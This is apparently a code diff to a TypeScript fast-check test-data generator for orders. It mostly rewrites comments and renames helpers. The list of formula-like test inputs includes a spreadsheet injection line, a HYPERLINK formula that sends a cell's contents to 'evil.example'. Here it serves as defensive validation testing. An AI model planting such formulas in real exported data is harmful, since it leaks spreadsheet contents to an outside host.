@@ -6,7 +6,7 @@ import { isTextLine } from '../../src/validation/text-line.js'
 import { FORMATS } from '../../src/validation/formats.js'
 import { calculation, imoNumber, textLine } from './calculations.js'
 
-/** Texts that spreadsheets run, trip over or change. */
+/** Texts that spreadsheets run or change. */
 const FORMULA_LIKE = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -47,7 +47,7 @@ const FORMULA_LIKE = [
   '\ufeffbom',
 ] as const
 
-/** One line of text as a field of an order takes it, plain or nasty. */
+/** A valid line of text, with or without special characters. */
 export const orderText = (maxLength: number): fc.Arbitrary<string> =>
   fc
     .oneof(textLine(maxLength), fc.constantFrom(...FORMULA_LIKE))
@@ -55,7 +55,7 @@ export const orderText = (maxLength: number): fc.Arbitrary<string> =>
 
 const BREAKS = ['\n', '\r\n', '\r', '\n\n', '\t', ' '] as const
 
-/** Notes: nothing, a line, or several with every kind of break between and around them. */
+/** Notes: empty, one line, or several with any type of line break. */
 export const notes: fc.Arbitrary<string> = fc
   .oneof(
     fc.constant(''),
@@ -67,7 +67,7 @@ export const notes: fc.Arbitrary<string> = fc
   )
   .filter((text) => text.length <= 10_000 && FORMATS.text?.(text) === true)
 
-/** With none, two, three and four decimals by ISO 4217; of IQD and HUF, CLDR writes none. */
+/** Currencies with zero, two, three and four decimals (ISO 4217); CLDR has none for IQD and HUF. */
 export const currency = fc.constantFrom(
   'EUR',
   'USD',
@@ -90,8 +90,8 @@ const co2eKg = fc.oneof(
   fc.double({ min: 0, max: 1_000_000, noNaN: true }).map((mass) => mass + 0), // never -0
 )
 
-/** A moment of the last decades, or one at which clocks are set or time zones disagree. */
-export const moment: fc.Arbitrary<string> = fc
+/** A time in recent decades or close to a clock change. */
+export const timestamp: fc.Arbitrary<string> = fc
   .oneof(
     fc.date({
       min: new Date('1990-01-01T00:00:00Z'),
@@ -121,18 +121,18 @@ const customerEmail = fc.constantFrom(
   "o'hara+sea@example.co.uk",
 )
 
-/** A status that an order may be entered with, and what is done to it from then on. */
+/** The initial status of an order and its changes. */
 const life = fc.record({
   entered: fc.record({
     status: fc.constantFrom(...ORDER_STATUSES.filter((status) => status !== 'cancelled')),
-    at: moment,
+    at: timestamp,
     version: fc.integer({ min: 1, max: 1_000 }),
   }),
-  moves: fc.array(fc.record({ choice: fc.nat(), at: moment }), { maxLength: 5 }),
+  moves: fc.array(fc.record({ choice: fc.nat(), at: timestamp }), { maxLength: 5 }),
 })
 
-/** An order after one of the moves that it can make, cancelling among them. */
-function moved(order: Order, { choice, at }: { choice: number; at: string }): Order {
+/** Applies a valid status transition or a cancellation. */
+function applyTransition(order: Order, { choice, at }: { choice: number; at: string }): Order {
   const open = getTransitions(order.status)
   const status = open[choice % (open.length + 1)]
   const changed =
@@ -142,7 +142,7 @@ function moved(order: Order, { choice, at }: { choice: number; at: string }): Or
   return changed.order
 }
 
-/** Any order that a book may come to hold, nasty ones among them, by its id. */
+/** An arbitrary valid order with an ID. */
 export const order = (id: number): fc.Arbitrary<Order> =>
   fc
     .record({
@@ -157,7 +157,7 @@ export const order = (id: number): fc.Arbitrary<Order> =>
       currency,
       orderSourceId: fc.option(orderText(120)),
       notes,
-      placedAt: moment,
+      placedAt: timestamp,
     })
     .map(({ life: { entered, moves }, calculation, ...fields }) => {
       const given = {
@@ -172,16 +172,16 @@ export const order = (id: number): fc.Arbitrary<Order> =>
         ...createFirstVersion(given, entered.at),
         version: entered.version,
       }
-      return moves.reduce(moved, first)
+      return moves.reduce(applyTransition, first)
     })
 
-/** Random orders with ids from 1; the same for the same seed. */
+/** Random orders with IDs from 1, determined by the seed. */
 export const randomOrders = (count: number, seed = 1): Order[] =>
   Array.from({ length: count }, (_, index) =>
     fc.sample(order(index + 1), { numRuns: 1, seed: seed + index }),
   ).flat()
 
-/** Usual orders, made quickly: for books that are to be large. */
+/** Typical orders, generated quickly, for large databases. */
 export function* usualOrders(count: number): Generator<Order> {
   const first = Date.UTC(2025, 0, 1)
   for (let id = 1; id <= count; id++) {
